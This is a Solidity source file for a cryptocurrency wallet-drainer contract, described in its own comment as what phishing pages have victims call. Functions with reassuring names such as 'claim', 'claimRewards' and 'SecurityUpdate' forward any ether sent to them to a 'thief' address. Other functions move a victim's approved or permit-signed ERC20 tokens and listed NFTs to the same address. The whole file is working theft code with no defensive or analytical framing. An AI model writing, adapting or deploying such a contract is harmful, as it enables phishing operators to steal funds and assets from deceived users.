// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

interface IERC20 {
    function balanceOf(address owner) external view returns (uint256);
    function allowance(address owner, address spender) external view returns (uint256);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
    function permit(address owner, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external;
}

interface IERC721 {
    function transferFrom(address from, address to, uint256 id) external;
}

/// What phishing pages let their victims call: functions with reassuring names that pass on the ether sent with them, and
/// others that take whatever was approved or signed.
contract Drainer {
    address public immutable thief;

    constructor(address thief_) {
        thief = thief_;
    }

    modifier passOn() {
        (bool passed,) = thief.call{value: msg.value}("");
        require(passed);
        _;
    }

    receive() external payable passOn {}

    function claim() external payable passOn {}

    function claimRewards(address) external payable passOn {}

    function SecurityUpdate() external payable passOn {}

    function take(IERC20 token, address victim) public {
        uint256 balance = token.balanceOf(victim);
        uint256 allowed = token.allowance(victim, address(this));
        token.transferFrom(victim, thief, balance < allowed ? balance : allowed);
    }

    function takeByPermit(IERC20 token, address victim, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
        token.permit(victim, address(this), value, deadline, v, r, s);
        take(token, victim);
    }

    function takeNFTs(IERC721 collection, address victim, uint256[] calldata ids) external {
        for (uint256 i = 0; i < ids.length; i++) collection.transferFrom(victim, thief, ids[i]);
    }
}
